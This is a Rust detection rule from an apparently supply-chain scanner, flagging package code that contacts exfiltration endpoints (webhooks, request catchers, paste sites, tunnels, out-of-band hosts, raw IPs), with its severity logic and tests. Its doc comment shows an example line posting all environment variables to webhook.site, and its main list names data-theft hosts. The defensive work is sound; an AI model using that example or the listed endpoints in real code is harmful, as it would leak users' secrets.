//! # SW-GEN-007: exfiltration endpoint
//!
//! **What it does.** Finds URLs and hosts that exist to receive data from
//! strangers: request catchers (webhook.site, pipedream, requestbin,
//! beeceptor), Discord and Slack webhooks and the Telegram bot API, paste and
//! file-drop sites, tunnels (ngrok, trycloudflare, localhost.run,
//! serveo), out-of-band testing hosts (oastify, burpcollaborator,
//! interact.sh, dnslog, canarytokens), IP-lookup services, URLs whose
//! host is a public IPv4 address, and public addresses handed to a
//! network call (`socket.connect(("203.0.113.7", 9090))`).
//!
//! **Why is this bad.** Stolen credentials have to go somewhere, and
//! attackers pick endpoints that need no account and leave no trail. A
//! library has little reason to talk to any of them, and none to do so
//! while it is installed or imported.
//!
//! **Example.**
//!
//! ```javascript
//! fetch("https://webhook.site/0000", { method: "POST", body: JSON.stringify(process.env) });
//! ```
//!
//! **False positives.** Notification libraries that post to Discord or
//! Telegram on request, and tests or docs with a literal IP address.
//! Those run only when called and weigh little. At install, startup or
//! import the rule is `high`, and `critical` when the endpoint is handed
//! to a call there or the file talks to the network at that stage (a
//! request catcher, webhook, tunnel, file drop, out-of-band host or raw
//! IP address contacted as the package installs or loads).


use super::{Context, Emit, Indicators, Rule, is_network};
use crate::analysis::SourceFile;
pub(crate) use crate::lang::lexical::is_public_ipv4 as is_public;
use crate::model::{Severity, Stage};
use crate::guarded::Guarded;

pub(crate) static RULE: Rule = Rule {
    id: "SW-GEN-007",
    title: "exfiltration endpoint",
    source: include_str!("gen007_exfil_endpoint.rs"),
    check,
};

/// (pattern, what it is).
pub(crate) const ENDPOINTS: &[(&str, &str)] = &[
    ("webhook.site", "a request catcher"),
    ("pipedream.net", "a request catcher"),
    ("requestbin", "a request catcher"),
    ("beeceptor.com", "a request catcher"),
    ("hookbin.com", "a request catcher"),
    ("dnshook.site", "a request catcher"),
    ("requestcatcher.com", "a request catcher"),
    ("requestrepo.com", "a request catcher"),
    ("postb.in", "a request catcher"),
    ("discord.com/api/webhooks", "a Discord webhook"),
    ("discordapp.com/api/webhooks", "a Discord webhook"),
    ("hooks.slack.com/services", "a Slack webhook"),
    ("api.telegram.org/bot", "the Telegram bot API"),
    ("pastebin.com", "a paste site"),
    ("hastebin", "a paste site"),
    ("ghostbin", "a paste site"),
    ("paste.ee", "a paste site"),
    ("rentry.co", "a paste site"),
    ("transfer.sh", "a file drop"),
    ("file.io", "a file drop"),
    ("gofile.io", "a file drop"),
    ("anonfiles", "a file drop"),
    ("catbox.moe", "a file drop"),
    ("filetransfer.io", "a file drop"),
    ("ngrok.io", "a tunnel"),
    ("ngrok-free.app", "a tunnel"),
    ("ngrok-free.dev", "a tunnel"),
    ("ngrok.app", "a tunnel"),
    ("trycloudflare.com", "a tunnel"),
    ("localhost.run", "a tunnel"),
    ("serveo.net", "a tunnel"),
    ("loca.lt", "a tunnel"),
    ("oastify.com", "an out-of-band testing host"),
    ("burpcollaborator.net", "an out-of-band testing host"),
    ("interact.sh", "an out-of-band testing host"),
    ("interactsh.com", "an out-of-band testing host"),
    ("bxss.me", "an out-of-band testing host"),
    ("dnslog.link", "an out-of-band testing host"),
    ("oast.fun", "an out-of-band testing host"),
    ("oast.pro", "an out-of-band testing host"),
    ("oast.live", "an out-of-band testing host"),
    ("oast.site", "an out-of-band testing host"),
    ("oast.online", "an out-of-band testing host"),
    ("oast.me", "an out-of-band testing host"),
    ("dnslog.cn", "an out-of-band testing host"),
    ("ceye.io", "an out-of-band testing host"),
    ("canarytokens.com", "an out-of-band testing host"),
    ("ipinfo.io", "an IP-lookup service"),
    ("api.ipify.org", "an IP-lookup service"),
    ("ifconfig.me", "an IP-lookup service"),
    ("icanhazip.com", "an IP-lookup service"),
    ("ip-api.com", "an IP-lookup service"),
    ("checkip.amazonaws.com", "an IP-lookup service"),
];

pub(crate) static MATCHER: Indicators =
    Indicators::new(|| ENDPOINTS.iter().map(|(p, _)| *p).collect());

pub(crate) static IP_URL: Guarded = Guarded::new(
    &["://0", "://1", "://2", "://3", "://4", "://5", "://6", "://7", "://8", "://9"],
    r"(?i)(?-u:\b)(?:https?|wss?|tcp)://([0-9]{1,3})\.([0-9]{1,3})\.([0-9]{1,3})\.([0-9]{1,3})(?::[0-9]+)?",
);

fn check(cx: &Context<'_>, out: &mut Emit<'_>) {
    for hit in cx.indicator_hits(&MATCHER) {
        let (pattern, what) = ENDPOINTS[hit.pattern];
        let used = hit.used || sends_at(hit.file, hit.stage);
        let severity = severity(hit.stage, what, used);
        out.finding(severity, hit.stage, &hit.file.path, Some(hit.line), format!("sends to {what} (`{pattern}`)"));
    }
    for (file, _) in cx.code_texts() {
        let Some(facts) = &file.facts else { continue };
        let raw_ip = facts
            .strings
            .iter()
            .filter(|lit| lit.value.len() <= 100_000)
            .find_map(|lit| public_ip_url(&lit.value).map(|url| (url, lit.stage, lit.line)))
            .or_else(|| {
                // `socket.connect(("203.0.113.7", 9090))`: a bare address
                // handed to a network call.
                facts.calls.iter().filter(|c| is_network(&c.callee)).find_map(|c| {
                    let ip = c.strings.iter().find(|s| bare_public_ip(s))?;
                    Some((ip.clone(), c.stage, c.line))
                })
            });
        if let Some((address, stage, line)) = raw_ip {
            let severity = match (stage.is_automatic(), sends_at(file, stage)) {
                // A raw address and a network call, both as the package
                // installs or loads.
                (true, true) => Severity::Critical,
                (true, false) => Severity::High,
                (false, _) => Severity::Low,
            };
            out.finding(severity, stage, &file.path, Some(line), format!("talks to a raw IP address (`{address}`)"));
        }
    }
}

/// Whether `file` makes a network call at `stage` (only asked for the
/// stages that run by themselves).
fn sends_at(file: &SourceFile, stage: Stage) -> bool {
    stage.is_automatic()
        && file
            .facts
            .as_ref()
            .is_some_and(|f| f.calls.iter().any(|c| c.stage == stage && is_network(&c.callee)))
}

/// The first URL in `text` whose host is a public IPv4 address.
pub(crate) fn public_ip_url(text: &str) -> Option<String> {
    IP_URL.captures_iter(text).find_map(|caps| {
        let octets: Vec<u8> = (1..=4).filter_map(|i| caps[i].parse().ok()).collect();
        (octets.len() == 4 && is_public(&octets)).then(|| caps[0].to_owned())
    })
}

/// Whether `text` is exactly a public IPv4 address.
fn bare_public_ip(text: &str) -> bool {
    text.parse::<std::net::Ipv4Addr>().is_ok_and(|ip| is_public(&ip.octets()))
}

fn severity(stage: Stage, what: &str, used: bool) -> Severity {
    match (stage.is_automatic(), what) {
        (true, "an IP-lookup service") => Severity::Medium,
        // Handed to a call as the package installs or loads: nothing
        // legitimate reports to a request catcher, webhook or tunnel then.
        (true, "a paste site") => Severity::High,
        // Slack's own SDKs and docs name the webhook host in module
        // docstrings: only a call counts.
        (true, "a Slack webhook") if !used => Severity::Info,
        (true, _) if used => Severity::Critical,
        (true, _) => Severity::High,
        (false, "an IP-lookup service") => Severity::Low,
        (false, "a Discord webhook" | "a Slack webhook" | "the Telegram bot API" | "a paste site") => Severity::Low,
        (false, _) => Severity::Medium,
    }
}

#[cfg(test)]
mod tests {
    use super::is_public;

    #[test]
    fn public_addresses() {
        assert!(is_public(&[83, 142, 209, 194]));
        assert!(!is_public(&[10, 0, 0, 1]));
        assert!(!is_public(&[172, 20, 0, 1]));
        assert!(!is_public(&[169, 254, 169, 254]));
        assert!(!is_public(&[127, 0, 0, 1]));
        assert!(!is_public(&[192, 0, 2, 7]));
    }
}
